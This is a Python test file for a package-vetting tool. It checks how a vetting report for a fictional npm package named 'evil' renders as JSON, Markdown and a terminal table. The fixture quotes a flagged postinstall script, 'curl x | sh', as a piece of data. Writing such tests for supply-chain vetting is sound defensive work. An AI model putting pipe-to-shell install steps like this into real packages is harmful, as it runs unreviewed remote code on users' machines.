"""Rendering a vetting report for a terminal, a machine and a reviewer."""

from __future__ import annotations

import json

import pytest

from assay.core.errors import UsageError
from assay.vetting.formats import render
from assay.vetting.report import CheckResult, Status, VetReport

REPORT = VetReport(
    "pkg:npm/evil@1.0.0",
    "npm",
    "evil",
    "1.0.0",
    (
        CheckResult("registry", Status.PASS, "evil 1.0.0 found"),
        CheckResult(
            "network-at-install",
            Status.FAIL,
            "1 problem: 'postinstall' script reaches the network",
            ("package.json: 'postinstall' script: curl x | sh [bold]",),
        ),
        CheckResult("malicious", Status.NOT_RUN, "could not run: no database"),
    ),
    "2026-12-07T10:00:00Z",
    "https://registry.npmjs.org",
)


def test_json_is_the_documented_dict() -> None:
    assert json.loads(render(REPORT, "json")) == REPORT.to_dict()


def test_markdown_for_a_reviewer() -> None:
    text = render(REPORT, "markdown")
    assert text.startswith("# Vetting report: `pkg:npm/evil@1.0.0`")
    assert "**Verdict: fail**" in text
    assert "| network-at-install | FAIL |" in text
    assert "| malicious | not run | could not run: no database |" in text
    assert "- package.json: 'postinstall' script: curl x \\| sh [bold]" in text  # pipe escaped


def test_table_shows_every_check_and_the_verdict_without_markup_injection() -> None:
    text = render(REPORT, "table", width=160)
    for name in ("registry", "network-at-install", "malicious"):
        assert name in text
    assert "verdict: fail" in text
    assert "curl x | sh [bold]" in text  # shown literally, not read as Rich markup


def test_unknown_format() -> None:
    with pytest.raises(UsageError, match="unknown format 'xml'"):
        render(REPORT, "xml")
